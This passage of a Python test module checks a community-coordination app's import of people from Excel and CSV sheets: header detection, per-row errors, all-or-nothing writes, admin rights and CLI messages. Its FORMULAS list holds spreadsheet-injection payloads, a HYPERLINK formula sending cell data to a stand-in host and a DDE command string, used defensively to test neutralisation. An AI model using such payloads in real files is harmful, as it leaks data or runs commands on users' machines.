"""people/importer.py and people/sheet.py: people added from the office's xlsx and csv sheets, every bad row named, all or nothing —
through the core and the CLI; the database is left exactly as it was after every refusal.
The people page's import is tested in tests/pages/test_people_import_page.py."""

from __future__ import annotations

import io
from pathlib import Path

import pandas as pd
import pytest
from helpers import HEAD_ZH, cli, file_dump
from openpyxl import Workbook

from coordpanel import people
from coordpanel.core import sheets
from coordpanel.core.auth import User
from coordpanel.core.db import Database
from coordpanel.core.errors import PermissionDenied
from coordpanel.people.importer import ImportRefused


# every test of this module runs on both backends: the demo in memory (DuckDB) and in PostgreSQL (tests/conftest.py)
@pytest.fixture
def fresh_demo(backend_fresh_demo):
    return backend_fresh_demo


@pytest.fixture(scope="module")
def demo_db(backend_demo_shared):
    return backend_demo_shared


ADMIN, PLANNER, LEADER = User(3, "admin", "admin"), User(2, "planner", "planner"), User(1, "leader", "leader")
TAKEN = "13900000001"  # 吕涛's number in the demo


def dump(db: Database) -> tuple:
    """Everything an import may change: every person as stored, and how many audit entries there are."""
    cur = db.cursor()
    return (cur.execute("SELECT * FROM person ORDER BY id").fetchall(),
            cur.execute("SELECT count(*) FROM audit_log").fetchone()[0])


def write(path: Path, lines: list[str], encoding: str = "utf-8") -> Path:
    path.write_bytes("\n".join(lines).encode(encoding) + b"\n")
    return path


def person(db: Database, name: str) -> dict:
    found = [p for p in db.records("people/list", compound_id=1) if p["name"] == name]
    assert len(found) == 1, name
    return found[0]


# --- good files ---------------------------------------------------------------------------------------------------


def test_a_gbk_csv_with_a_title_row_and_phones_stored_as_numbers_is_imported(fresh_demo, tmp_path):
    path = write(tmp_path / "志愿者.csv", [
        "万科嘉园志愿者名单（2020年2月）,,,,,,,,,",
        ",,,,,,,,,",
        "序号,姓名,类别,分组,手机号,是否党员,所住楼栋,单位,职务,备注",
        "1,赵一鸣,志愿者,门岗防控组,13712340001.0,是,3栋,,组长,夜班",
        "2,钱  二,志愿者,应急组,1.37123400020E+10,否,12号楼,,,",  # a number in scientific notation is not a phone
        "3,孙三强,下沉党员,卡口封控组,13712340003,中共党员,,东管公司,,",
        "4,李四海,社区网格员,,137-1234-0004,群众,三栋,长山社区居委会,网格员,",
        "5,,,,,,,,,",  # a template's numbered empty row
    ], encoding="gbk")
    frame = people.importer.read(path)
    assert frame["row"].tolist()[:4] == [4, 5, 6, 7]
    rows, errors = people.importer.plan(fresh_demo, 1, frame)
    assert [(e.where.row, e.keys) for e in errors] == [(5, ["people.bad_phone"])]
    path = write(tmp_path / "志愿者.csv", [line.replace("1.37123400020E+10", "13712340002.0")
                                          for line in path.read_bytes().decode("gbk").splitlines()], encoding="gbk")
    rows, errors = people.importer.plan(fresh_demo, 1, people.importer.read(path))
    assert errors == []
    assert [(r.where.row, r.person.name, r.person.phone) for r in rows] == [
        (4, "赵一鸣", "13712340001"), (5, "钱二", "13712340002"), (6, "孙三强", "13712340003"), (7, "李四海", "13712340004")]
    before = dump(fresh_demo)
    assert people.importer.import_people(fresh_demo, ADMIN, 1, path) == 4
    zhao = fresh_demo.records("people/full", id=person(fresh_demo, "赵一鸣")["id"])[0]
    assert (zhao["tier"], zhao["group_code"], zhao["party_member"], zhao["home_building_id"], zhao["title"], zhao["note"],
            zhao["status"]) == ("volunteer", "gate", True, 3, "组长", "夜班", "active")
    sun = fresh_demo.records("people/full", id=person(fresh_demo, "孙三强")["id"])[0]
    assert (sun["tier"], sun["group_code"], sun["organisation_id"], sun["party_member"]) == ("cadre", "checkpoint", 2, True)
    li = person(fresh_demo, "李四海")
    assert (li["tier"], li["group_code"], li["party_member"], li["home_building"]) == ("grid", None, False, "3栋")
    # one transaction, one audit entry per person, in the same batch
    log = fresh_demo.cursor().execute("SELECT action, table_name, batch, actor, after FROM audit_log WHERE action = 'import people'"
                                      ).fetchall()
    assert len(log) == 4 and {(a, tb, actor) for a, tb, _, actor, _ in log} == {("import people", "person", "admin")}
    assert len({b for _, _, b, _, _ in log}) == 1 and any('"name": "赵一鸣"' in after for *_, after in log)
    assert dump(fresh_demo)[1] == before[1] + 4 and len(dump(fresh_demo)[0]) == len(before[0]) + 4


def test_an_xlsx_with_chinese_headers_merged_group_cells_and_a_sheet_per_tier_is_imported(fresh_demo, tmp_path):
    book = Workbook()
    ws = book.active
    ws.title = "志愿者"
    ws.append(["长山社区志愿者花名册"])
    ws.append(["序号", "名字", "组别", "联系电话", "政治面貌", "住址楼栋", "备注（选填）"])
    ws.append([1, "周五福", "门岗防控组", 13712340011, "中共党员", "5号楼", None])
    ws.append([2, "吴六顺", None, 13712340012.0, "群众", 7, "白班"])  # 组别 merged over rows 3-4
    ws.append([3, "郑　七星", "生活物质采购", "１３７１２３４００１３", "共青团员", "Building 9", None])
    ws.merge_cells("C3:C4")
    ws2 = book.create_sheet("物业")  # no tier column: the sheet says it
    ws2.append(["姓名", "分组", "手机"])
    ws2.append(["王八斗", "秩序维护", "13712340014"])
    book.create_sheet("说明").append(["本表由志愿者组长填写。"])
    path = tmp_path / "花名册.xlsx"
    book.save(path)
    frame = people.importer.read(path)
    assert people.importer.detect_mapping(people.importer.headers(frame)) == {
        "name": "名字", "group": "组别", "phone": "联系电话", "party_member": "政治面貌", "home_building": "住址楼栋",
        "note": "备注（选填）"}
    rows, errors = people.importer.plan(fresh_demo, 1, frame)
    assert [e.message("en") for e in errors] == []
    assert [(r.where.sheet, r.where.row) for r in rows] == [("志愿者", 3), ("志愿者", 4), ("志愿者", 5), ("物业", 2)]
    got = {r.person.name: (r.person.tier, r.person.group_code, r.person.phone, r.person.party_member, r.person.home_building_id)
           for r in rows}
    assert got == {"周五福": ("volunteer", "gate", "13712340011", True, 5),
                   "吴六顺": ("volunteer", "gate", "13712340012", False, 7),
                   "郑七星": ("volunteer", "purchasing", "13712340013", False, 9),
                   "王八斗": ("property", "security", "13712340014", False, None)}
    assert people.importer.import_people(fresh_demo, ADMIN, 1, path.read_bytes(), name=path.name) == 4
    assert person(fresh_demo, "吴六顺")["note"] == "白班"


def test_an_english_header_csv_is_imported(fresh_demo, tmp_path):
    path = write(tmp_path / "people.csv", [
        "Name,Tier,Group,Organisation,Phone,Party member,Home building,Title,Note",
        "Anna Lee,Volunteers,Gate control,,+86 137 1234 0021,yes,Building 3,,",
        "Bo Zhang,cadre,checkpoint,Wuhan Hi-tech Group,137 1234 0022,Y,,Deputy,",
        "Chen Li,property,Security,Vanke Property Services,,no,,Guard,night shift",
    ])
    assert people.importer.import_people(fresh_demo, ADMIN, 1, path) == 3
    anna, bo, chen = (fresh_demo.records("people/full", id=person(fresh_demo, n)["id"])[0] for n in ("Anna Lee", "Bo Zhang", "Chen Li"))
    assert (anna["tier"], anna["group_code"], anna["phone"], anna["party_member"], anna["home_building_id"]) == (
        "volunteer", "gate", "13712340021", True, 3)
    assert (bo["tier"], bo["organisation_id"], bo["title"], bo["party_member"]) == ("cadre", 1, "Deputy", True)
    assert (chen["group_code"], chen["organisation_id"], chen["phone"], chen["note"]) == ("security", 5, None, "night shift")


@pytest.mark.parametrize(("cells", "expected"), [
    ({"楼栋": "3栋"}, 3), ({"楼栋": "3"}, 3), ({"楼栋": 3.0}, 3), ({"楼栋": "3号楼"}, 3), ({"楼栋": "3幢"}, 3),
    ({"楼栋": "3#"}, 3), ({"楼栋": "三栋"}, 3), ({"楼栋": "十四栋"}, 14), ({"楼栋": "3栋2单元502"}, 3), ({"楼栋": "bldg 12"}, 12),
    ({"楼栋": "１２栋"}, 12), ({"楼栋": None}, None),
])
def test_buildings_as_offices_write_them(demo_db, cells, expected):
    frame = pd.DataFrame([{"sheet": None, "row": 2, "姓名": "赵一鸣", "层级": "志愿者", **cells}])
    rows, errors = people.importer.plan(demo_db, 1, frame)
    assert errors == [] and rows[0].person.home_building_id == expected


@pytest.mark.parametrize(("value", "expected"), [
    ("是", True), ("否", False), ("中共党员", True), ("中共预备党员", True), ("群众", False), ("共青团员", False),
    ("Y", True), ("n", False), ("1", True), (0, False), (1.0, True), ("true", True), ("FALSE", False), (True, True),
    ("√", True), (None, False), ("", False),
])
def test_party_membership_as_offices_write_it(demo_db, value, expected):
    frame = pd.DataFrame([{"sheet": None, "row": 2, "姓名": "赵一鸣", "层级": "志愿者", "党员": value}])
    rows, errors = people.importer.plan(demo_db, 1, frame)
    assert errors == [] and rows[0].person.party_member is expected


@pytest.mark.parametrize(("headers", "expected"), [
    (["姓名", "电话", "楼栋"], {"name": "姓名", "phone": "电话", "home_building": "楼栋"}),
    (["名字", "手机号（必填）", "所住楼栋", "政治面貌", "来源单位", "身份", "组别"],
     {"name": "名字", "phone": "手机号（必填）", "home_building": "所住楼栋", "party_member": "政治面貌",
      "organisation": "来源单位", "tier": "身份", "group": "组别"}),
    (["Name", "Home Building", "Party_Member", "PHONE", "Organization", "title", "Notes"],
     {"name": "Name", "home_building": "Home Building", "party_member": "Party_Member", "phone": "PHONE",
      "organisation": "Organization", "title": "title", "note": "Notes"}),
    (["电话", "手机", "序号", "姓 名"], {"phone": "电话", "name": "姓 名"}),  # the first of two phone columns
    (["门岗", "日期"], {}),
])
def test_headers_are_recognised_in_chinese_and_english(headers, expected):
    assert people.importer.detect_mapping(headers) == expected


def test_a_coordinator_maps_columns_the_file_names_its_own_way(fresh_demo, tmp_path):
    path = write(tmp_path / "list.csv", ["联系人,号码,住哪", "赵一鸣,13712340031,3栋", "钱二丫,13712340032,4栋"])
    frame = people.importer.read(path)
    assert people.importer.headers(frame) == ["联系人", "号码", "住哪"]
    _, errors = people.importer.plan(fresh_demo, 1, frame)
    assert [e.key for e in errors] == ["people_import.no_name_column"]
    mapping = {"name": "联系人", "phone": "号码", "home_building": "住哪", "tier": None}
    rows, errors = people.importer.plan(fresh_demo, 1, frame, mapping)
    assert [e.keys for e in errors] == [["people_import.no_tier"], ["people_import.no_tier"]]
    frame["层级"] = "志愿者"
    rows, errors = people.importer.plan(fresh_demo, 1, frame, {**mapping, "tier": "层级"})
    assert errors == [] and [(r.person.name, r.person.home_building_id) for r in rows] == [("赵一鸣", 3), ("钱二丫", 4)]
    _, errors = people.importer.plan(fresh_demo, 1, frame, {"name": "姓名"})
    assert [e.key for e in errors] == ["people_import.unknown_header"] and "联系人, 号码, 住哪" in errors[0].message("zh")
    assert people.importer.import_people(fresh_demo, ADMIN, 1, frame, {**mapping, "tier": "层级"}) == 2


# --- bad rows: each named with its row and reason; nothing is written -----------------------------------------------


@pytest.mark.parametrize(("rows", "bad_row", "key", "zh", "en"), [
    ([",志愿者,门岗防控组,13712340041,是,3栋"], 2, "people.no_name", "缺少姓名", "the name is missing"),
    (["赵一鸣,志愿者,门岗防控组,1371234004,是,3栋"], 2, "people.bad_phone", "手机号格式不对：1371234004",
     "malformed mobile number: 1371234004"),
    (["赵一鸣,志愿者,门岗防控组,13712340041,是,99栋"], 2, "people.bad_building", "未知楼栋：99栋", "unknown building: 99栋"),
    (["赵一鸣,志愿者,巡逻组,13712340041,是,3栋"], 2, "people.bad_group", "未知分组：巡逻组", "unknown group: 巡逻组"),
    (["赵一鸣,保安,,13712340041,是,3栋"], 2, "people.bad_tier", "未知层级：保安", "unknown tier: 保安"),
    (["赵一鸣,物业,门岗防控组,13712340041,是,3栋"], 2, "people.group_tier", "分组「门岗防控组」不属于「物业」",
     "the group Gate control is not part of the Property company tier"),
    ([f"赵一鸣,志愿者,门岗防控组,{TAKEN},是,3栋"], 2, "people.phone_taken", f"手机号 {TAKEN} 已属于 吕涛",
     f"the number {TAKEN} already belongs to 吕涛"),
    (["赵一鸣,志愿者,门岗防控组,13712340041,是,3栋", "钱二丫,志愿者,应急组,13712340042,否,4栋",
      "赵一鸣,志愿者,门岗防控组,137-1234-0041,是,3栋"], 4, "people_import.duplicate", "与第 2 行重复（赵一鸣）",
     "repeats row 2 (赵一鸣)"),
    (["赵一鸣,志愿者,门岗防控组,13712340041,是,3栋", "钱二丫,志愿者,应急组,13712340041,否,4栋"], 3,
     "people_import.phone_twice", "手机号 13712340041 在第 2 行已用于 赵一鸣", "the number 13712340041 is already on row 2"),
    (["赵一鸣,志愿者,门岗防控组,,是,3栋", "赵一鸣,志愿者,应急组,,否,4栋"], 3, "people_import.same_name",
     "与第 2 行同名（赵一鸣）", "has the same name as row 2"),
    (["吕涛,志愿者,门岗防控组,,是,3栋"], 2, "people_import.exists", "人员名单中已有「吕涛」（编号 1）",
     "“吕涛” is already in the directory (ID 1)"),
    (["赵一鸣,志愿者,门岗防控组,13712340041,也许,3栋"], 2, "people_import.bad_party", "无法从「也许」判断是否党员",
     "cannot tell from “也许” whether"),
    (["赵一鸣,,,13712340041,是,3栋"], 2, "people_import.no_tier", "缺少层级", "the tier is missing"),
])
def test_a_bad_row_is_refused_with_its_row_number_and_reason(fresh_demo, tmp_path, rows, bad_row, key, zh, en):
    path = write(tmp_path / "bad.csv", [HEAD_ZH, *rows], encoding="gbk")
    good, errors = people.importer.plan(fresh_demo, 1, people.importer.read(path))
    assert [(e.where.row, e.keys) for e in errors] == [(bad_row, [key])]
    assert len(good) == len(rows) - 1
    assert errors[0].message("zh").startswith(f"第 {bad_row} 行：") and zh in errors[0].message("zh"), errors[0].message("zh")
    assert errors[0].message("en").startswith(f"row {bad_row}: ") and en in errors[0].message("en"), errors[0].message("en")
    before = dump(fresh_demo)
    with pytest.raises(ImportRefused) as refused:
        people.importer.import_people(fresh_demo, ADMIN, 1, path)
    assert refused.value.lines("zh") == [errors[0].message("zh")]
    assert refused.value.message("en") == "Not imported: 1 problems found; nothing was changed."
    assert dump(fresh_demo) == before


def test_every_bad_row_is_listed_once_with_all_its_reasons_and_the_good_rows_wait(fresh_demo, tmp_path):
    path = write(tmp_path / "bad.csv", [
        "名单", HEAD_ZH,
        "赵一鸣,志愿者,门岗防控组,13712340051,是,3栋",
        ",外星人,巡逻组,12345,也许,99栋",
        "钱二丫,志愿者,应急组,13712340052,否,4栋",
        "孙三强,志愿者,卡口封控组,13712340053,否,",
    ])
    good, errors = people.importer.plan(fresh_demo, 1, people.importer.read(path))
    assert [r.person.name for r in good] == ["赵一鸣", "钱二丫"]
    assert [(e.where.row, e.keys) for e in errors] == [
        (4, ["people.no_name", "people.bad_tier", "people.bad_group", "people.bad_phone", "people.bad_building",
             "people_import.bad_party"]),
        (6, ["people.group_tier"])]
    assert errors[0].message("zh") == ("第 4 行：缺少姓名；未知层级：外星人；未知分组：巡逻组；手机号格式不对：12345（应为 11 位，以 1 开头）；"
                                       "未知楼栋：99栋；无法从「也许」判断是否党员（请填 是 或 否）。")
    assert errors[1].message("en") == "row 6: the group Checkpoint control is not part of the Volunteers tier."
    assert errors[0].message("en") == (  # one sentence: each reason after the first starts in lower case, a name as written
        "row 4: the name is missing; unknown tier: 外星人; unknown group: 巡逻组; malformed mobile number: 12345 (11 digits "
        "starting with 1); unknown building: 99栋; cannot tell from “也许” whether this is a party member (write yes or no).")
    assert (errors[0].key, errors[0].params, errors[0].where.row) == ("people.no_name", {}, 4)
    before = dump(fresh_demo)
    with pytest.raises(ImportRefused) as refused:
        people.importer.import_people(fresh_demo, ADMIN, 1, path)
    assert len(refused.value.lines("en")) == 2 and refused.value.params == {"n": 2}
    assert dump(fresh_demo) == before


def test_a_number_taken_while_the_file_was_checked_refuses_the_whole_file(fresh_demo, tmp_path, monkeypatch):
    """The plan is read outside the write lock; the transaction checks the numbers again before adding anyone."""
    path = write(tmp_path / "race.csv", [HEAD_ZH, "赵一鸣,志愿者,门岗防控组,13712340061,是,3栋",
                                         f"钱二丫,志愿者,应急组,{TAKEN},否,4栋"])
    owners = people.importer._phone_owners
    monkeypatch.setattr(people.importer, "_phone_owners",  # as if 吕涛's number were free when planned
                        lambda db, phones: {} if isinstance(db, Database) else owners(db, phones))
    before = dump(fresh_demo)
    with pytest.raises(ImportRefused) as refused:
        people.importer.import_people(fresh_demo, ADMIN, 1, path)
    assert refused.value.lines("en") == [f"row 3: The number {TAKEN} already belongs to 吕涛."]
    assert dump(fresh_demo) == before


# --- files that cannot be read, empty files, wrong columns --------------------------------------------------------


def xlsx_bytes() -> bytes:
    book = Workbook()
    book.active.append(["姓名", "电话"])
    book.active.append(["赵一鸣", "13712340071"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.parametrize(("name", "content", "key", "text"), [
    ("people.txt", "姓名\n赵一鸣\n".encode(), "import.bad_extension", "只能导入 .xlsx、.xls 或 .csv 文件（收到 people.txt）"),
    ("people.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(200), "import.unreadable", "无法读取文件 people.xls"),
    ("people.xls", b"\xd0\xcf\x11\xe0" + bytes(200), "import.unreadable", "无法读取文件 people.xls"),
    ("people.et", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(200), "import.wps_et", "另存为」保存为 Excel 工作簿（.xlsx）"),
    ("people.xlsx", b"\x89PNG\r\n\x1a\n" + bytes(100), "import.unreadable", "无法读取文件 people.xlsx"),
    ("people.xlsx", "姓名,电话\n赵一鸣,13712340071\n".encode(), "import.unreadable", "不是 Excel 文件"),
    ("people.csv", xlsx_bytes(), "import.binary_csv", "不是文本格式的 CSV"),
])
def test_a_file_in_the_wrong_format_is_refused_and_changes_nothing(fresh_demo, tmp_path, name, content, key, text):
    path = tmp_path / name
    path.write_bytes(content)
    before = dump(fresh_demo)
    for source, file_name in ((path, None), (content, name)):
        with pytest.raises(ImportRefused) as refused:
            people.importer.import_people(fresh_demo, ADMIN, 1, source, name=file_name)
        assert [e.key for e in refused.value.errors] == [key]
        assert text in refused.value.lines("zh")[0]
    with pytest.raises(sheets.UnreadableFile):
        people.importer.read(path)
    assert dump(fresh_demo) == before


def test_a_missing_file_is_named(fresh_demo, tmp_path):
    with pytest.raises(ImportRefused) as refused:
        people.importer.import_people(fresh_demo, ADMIN, 1, tmp_path / "none.csv")
    assert refused.value.errors[0].key == "import.no_file" and "none.csv" in refused.value.lines("en")[0]


@pytest.mark.parametrize("content", [
    b"", "\ufeff".encode(), "\ufeff姓名,电话,楼栋\n".encode(), "序号,姓名,电话\n1,,\n2,,\n".encode("gbk"), b"\n\n,,,\n",
])
def test_an_empty_file_is_refused_and_changes_nothing(fresh_demo, tmp_path, content):
    path = tmp_path / "empty.csv"
    path.write_bytes(content)
    before = dump(fresh_demo)
    _, errors = people.importer.plan(fresh_demo, 1, people.importer.read(path))
    assert [e.key for e in errors] == ["people_import.empty"]
    assert errors[0].message("zh") == "文件中没有任何人员行。"
    with pytest.raises(ImportRefused):
        people.importer.import_people(fresh_demo, ADMIN, 1, path)
    assert dump(fresh_demo) == before


@pytest.mark.parametrize(("lines", "found"), [
    (["门岗,日期,开始,结束,人员", "北门,2020-02-21,08:00,16:00,吕涛"], "门岗, 日期, 开始, 结束, 人员"),
    (["电话,楼栋", "13712340081,3栋"], "电话, 楼栋"),
    (["a;b;c", "1;2;3"], "a, b, c"),
])
def test_a_file_without_a_name_column_says_what_it_found_and_what_is_expected(fresh_demo, tmp_path, lines, found):
    path = write(tmp_path / "cols.csv", lines)
    before = dump(fresh_demo)
    with pytest.raises(ImportRefused) as refused:
        people.importer.import_people(fresh_demo, ADMIN, 1, path)
    assert [e.key for e in refused.value.errors] == ["people_import.no_name_column"]
    zh, en = refused.value.lines("zh")[0], refused.value.lines("en")[0]
    assert f"文件中的列为 {found}" in zh and "需要：姓名（name）" in zh
    assert f"the file has {found}" in en and "Expected: name (姓名)" in en
    assert dump(fresh_demo) == before


def test_utf16_csv_from_excel_is_read(tmp_path):
    path = tmp_path / "u16.csv"
    path.write_bytes("姓名\t电话\n赵一鸣\t13712340091\n".encode("utf-16"))
    frame = people.importer.read(path)
    assert frame[["row", "姓名", "电话"]].values.tolist() == [[2, "赵一鸣", "13712340091"]]


# --- rights -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("user", [LEADER, PLANNER, None])
def test_only_admins_import_people(fresh_demo, tmp_path, user):
    path = write(tmp_path / "ok.csv", [HEAD_ZH, "赵一鸣,志愿者,门岗防控组,13712340101,是,3栋"])
    before = dump(fresh_demo)
    with pytest.raises(PermissionDenied):
        people.importer.import_people(fresh_demo, user, 1, path)
    assert dump(fresh_demo) == before


# --- the CLI ------------------------------------------------------------------------------------------------------


def test_cli_imports_a_good_file(backend_db_file, tmp_path):
    db_file = backend_db_file
    path = write(tmp_path / "名单.csv", ["志愿者名单", HEAD_ZH, "赵一鸣,志愿者,门岗防控组,13712340111.0,是,3栋",
                                        "钱二丫,下沉党员,居民服务组,13712340112,中共党员,"], encoding="gbk")
    before = file_dump(db_file)
    result = cli(db_file, "import-people", str(path))
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == f"Imported 2 people from {path}."
    after = file_dump(db_file)
    assert len(after[0]) == len(before[0]) + 2 and after[1] == before[1] + 2
    zh = cli(db_file, "import-people", str(path), lang="zh_CN.UTF-8")  # the same file again: both numbers are taken now
    assert zh.returncode == 1 and file_dump(db_file) == after


def test_cli_refuses_a_bad_file_with_one_line_per_bad_row(backend_db_file, tmp_path):
    db_file = backend_db_file
    path = write(tmp_path / "bad.csv", [HEAD_ZH, "赵一鸣,志愿者,门岗防控组,13712340121,是,3栋",
                                        ",志愿者,巡逻组,12345,是,3栋",
                                        f"钱二丫,志愿者,应急组,{TAKEN},否,99栋",
                                        "赵一鸣,志愿者,门岗防控组,13712340121,是,3栋"])
    before = file_dump(db_file)
    result = cli(db_file, "import-people", str(path))
    assert result.returncode == 1 and result.stdout == "" and "Traceback" not in result.stderr
    lines = result.stderr.splitlines()
    assert lines == [
        "error: Not imported: 3 problems found; nothing was changed.",
        "  row 3: the name is missing; unknown group: 巡逻组; malformed mobile number: 12345 (11 digits starting with 1).",
        f"  row 4: the number {TAKEN} already belongs to 吕涛; unknown building: 99栋.",
        "  row 5: repeats row 2 (赵一鸣).",
    ]
    zh = cli(db_file, "import-people", str(path), lang="zh_CN.UTF-8")
    assert zh.returncode == 1
    assert zh.stderr.splitlines()[0] == "error: 导入未成功：发现 3 处问题，数据库未作任何修改。"
    assert zh.stderr.splitlines()[3] == "  第 5 行：与第 2 行重复（赵一鸣）。"
    assert file_dump(db_file) == before


@pytest.mark.parametrize(("name", "content", "text"), [
    ("people.txt", b"x", "Only .xlsx, .xls and .csv files can be imported"),
    ("people.et", b"x", "in WPS, use Save As to save it as an Excel workbook (.xlsx)"),
    ("people.xlsx", b"not a zip", "Cannot read people.xlsx"),
    ("people.csv", b"", "The file holds no people."),
    ("people.csv", "门岗,日期\n北门,2020-02-21\n".encode(), "No name column: the file has 门岗, 日期."),
])
def test_cli_refuses_unreadable_empty_and_wrong_files(db_file, tmp_path, name, content, text):
    path = tmp_path / name
    path.write_bytes(content)
    before = file_dump(db_file)
    result = cli(db_file, "import-people", str(path))
    assert result.returncode == 1 and text in result.stderr and "Traceback" not in result.stderr
    assert file_dump(db_file) == before


def test_cli_needs_an_existing_database_and_compound(tmp_path, db_file):
    path = write(tmp_path / "ok.csv", [HEAD_ZH, "赵一鸣,志愿者,门岗防控组,13712340131,是,3栋"])
    missing = tmp_path / "none.duckdb"
    result = cli(missing, "import-people", str(path))
    assert result.returncode == 1 and "init --demo" in result.stderr and not missing.exists()
    result = cli(db_file, "import-people", str(path), "--compound", "7")
    assert result.returncode == 1 and "no compound with ID 7" in result.stderr


# --- legacy .xls, WPS .et ------------------------------------------------------------------------------------------

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"


def test_a_legacy_xls_workbook_is_imported_with_its_merged_cells_numbers_and_sheets(fresh_demo, tmp_path):
    """tests/fixtures/people.xls is a real Excel 97-2003 file (BIFF8, written by xlwt: tests/fixtures/make_xls.py)."""
    frame = people.importer.read(FIXTURES / "people.xls")
    assert people.importer.detect_mapping(people.importer.headers(frame)) == {
        "name": "姓名", "group": "组别", "phone": "联系电话", "party_member": "政治面貌", "home_building": "楼栋号", "note": "备注"}
    rows, errors = people.importer.plan(fresh_demo, 1, frame)
    assert [e.message("en") for e in errors] == []
    assert [(r.where.sheet, r.where.row, r.person.name, r.person.tier, r.person.group_code, r.person.phone,
             r.person.party_member, r.person.home_building_id, r.person.note) for r in rows] == [
        ("志愿者", 3, "周五福", "volunteer", "gate", "13712340011", True, 5, "=1+1"),
        ("志愿者", 4, "吴六顺", "volunteer", "gate", "13712340012", False, 7, "白班"),
        ("志愿者", 5, "郑七星", "volunteer", "purchasing", "13712340013", False, 10, None),
        ("物业", 2, "王八斗", "property", "security", "13712340014", False, None, None)]
    before = dump(fresh_demo)
    content = (FIXTURES / "people.xls").read_bytes()
    for name in ("名单.xls", "名单.xlsx"):  # an .xls saved under an .xlsx name is read by what it holds
        assert people.importer.plan(fresh_demo, 1, people.importer.read(content, name))[0] == rows
    result = people.importer.import_people(fresh_demo, ADMIN, 1, content, name="名单.XLS")
    assert result == 4 and result.unused_columns == ("序号", "紧急联系人")
    assert dump(fresh_demo)[1] == before[1] + 4
    assert person(fresh_demo, "周五福")["note"] == "=1+1"


def test_cli_imports_a_legacy_xls_and_names_the_columns_it_did_not_import(db_file):
    result = cli(db_file, "import-people", str(FIXTURES / "people.xls"))
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith(f"Imported 4 people from {FIXTURES / 'people.xls'}.")


def test_a_wps_et_file_is_refused_with_how_to_save_it_as_xlsx(fresh_demo, tmp_path):
    path = tmp_path / "名单.et"
    path.write_bytes((FIXTURES / "people.xls").read_bytes())
    with pytest.raises(ImportRefused) as refused:
        people.importer.import_people(fresh_demo, ADMIN, 1, path)
    assert refused.value.lines("zh") == ["WPS 表格文件（.et）不能直接导入：请在 WPS 中用「另存为」保存为 Excel 工作簿（.xlsx）后再导入"
                                         "（收到 名单.et）。"]
    assert refused.value.lines("en")[0].startswith("A WPS spreadsheet (.et) cannot be imported as it is: in WPS, use Save As")


# --- formula-looking text: export → import keeps it -----------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.example/?d="&A1,"click")', "@SUM(1+1)", "+1+1", "-2+3", "=cmd|' /C calc'!A0", "'=1+1"]


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_formula_looking_names_and_notes_survive_an_export_and_an_import(fresh_demo, kind):
    from coordpanel.core import exports, i18n

    labels = {c: i18n.t(people.sheet.LABELS[c], "zh") for c in ("name", "tier", "phone", "note")}
    table = pd.DataFrame({labels["name"]: FORMULAS, labels["tier"]: ["志愿者"] * len(FORMULAS),
                          labels["phone"]: [f"1371234020{i}" for i in range(len(FORMULAS))],
                          labels["note"]: list(reversed(FORMULAS))})
    content = exports.to_xlsx({"人员": table}) if kind == "xlsx" else exports.to_csv(table)
    assert not any(str(v).startswith(("=", "+", "-", "@")) for v in people.importer.read(content, f"p.{kind}").iloc[:, 2:].stack())
    assert people.importer.import_people(fresh_demo, ADMIN, 1, content, name=f"people.{kind}") == len(FORMULAS)
    stored = {p["name"]: p["note"] for p in fresh_demo.records("people/list", compound_id=1) if p["phone"] and p["phone"].startswith("137123402")}
    assert stored == dict(zip(FORMULAS, reversed(FORMULAS), strict=True))


# --- headers written another way, and columns that are not imported -------------------------------------------------


@pytest.mark.parametrize(("header", "column"), [
    ("楼栋号", "home_building"), ("所在楼栋", "home_building"), ("所住楼栋号", "home_building"), ("栋号", "home_building"),
    ("Building No.", "home_building"), ("BLDG", "home_building"), ("家庭住址", "home_building"),
    ("联系手机", "phone"), ("本人电话", "phone"), ("Mobile Phone", "phone"), ("Tel.", "phone"), ("手机号码（必填）", "phone"),
    ("电话(手机)", "phone"), ("1、姓名", "name"), ("2. 姓名", "name"), ("姓名*", "name"), ("姓 名：", "name"), ("人员姓名", "name"),
    ("【必填】姓名", "name"), ("单位名称", "organisation"), ("所属单位", "organisation"), ("派出单位", "organisation"),
    ("Source Organisation", "organisation"), ("是否中共党员", "party_member"), ("Political Status", "party_member"),
    ("人员层级", "tier"), ("Category", "tier"), ("小组", "group"), ("Team", "group"), ("岗位", "title"), ("附注", "note"),
])
def test_headers_written_in_other_common_ways_are_recognised(header, column):
    assert people.importer.detect_mapping([header]) == {column: header}


@pytest.mark.parametrize("header", ["楼栋长", "紧急联系人", "序号", "编号", "3栋", "13712340011", "赵一鸣", "签名", "联系人",
                                    "家庭成员", "No.", "名", "号"])
def test_headers_that_name_no_column_are_not_taken_for_one(header):
    assert people.importer.detect_mapping([header]) == {}


def test_every_column_that_is_not_imported_is_named_and_nothing_is_dropped_silently(fresh_demo, tmp_path):
    path = write(tmp_path / "cols.csv", ["序号,姓名,层级,楼栋号,紧急联系人,电话,手机,,备注",
                                         "1,赵一鸣,志愿者,3栋,赵妻 13700000000,13712340211,13712340212,没有表头的一格,夜班"])
    frame = people.importer.read(path)
    assert people.importer.headers(frame) == ["序号", "姓名", "层级", "楼栋号", "紧急联系人", "电话", "手机", "(H)", "备注"]
    assert people.importer.unused_columns(frame) == ["序号", "紧急联系人", "手机", "(H)"]
    mapping = {**people.importer.detect_mapping(people.importer.headers(frame)), "phone": "手机", "note": None}
    assert people.importer.unused_columns(frame, mapping) == ["序号", "紧急联系人", "电话", "(H)", "备注"]
    rows, errors = people.importer.plan(fresh_demo, 1, frame)
    assert errors == [] and (rows[0].person.home_building_id, rows[0].person.phone) == (3, "13712340211")
    result = people.importer.import_people(fresh_demo, ADMIN, 1, path)
    assert (int(result), result.unused_columns) == (1, ("序号", "紧急联系人", "手机", "(H)"))
    assert f"{result}" == "1" and isinstance(result, people.importer.Imported)
    everything_used = write(tmp_path / "all.csv", ["姓名,层级", "钱二丫,志愿者"])
    assert people.importer.import_people(fresh_demo, ADMIN, 1, everything_used).unused_columns == ()


# --- building numbers, organisations, repeated names ---------------------------------------------------------------


@pytest.mark.parametrize(("text", "number"), [
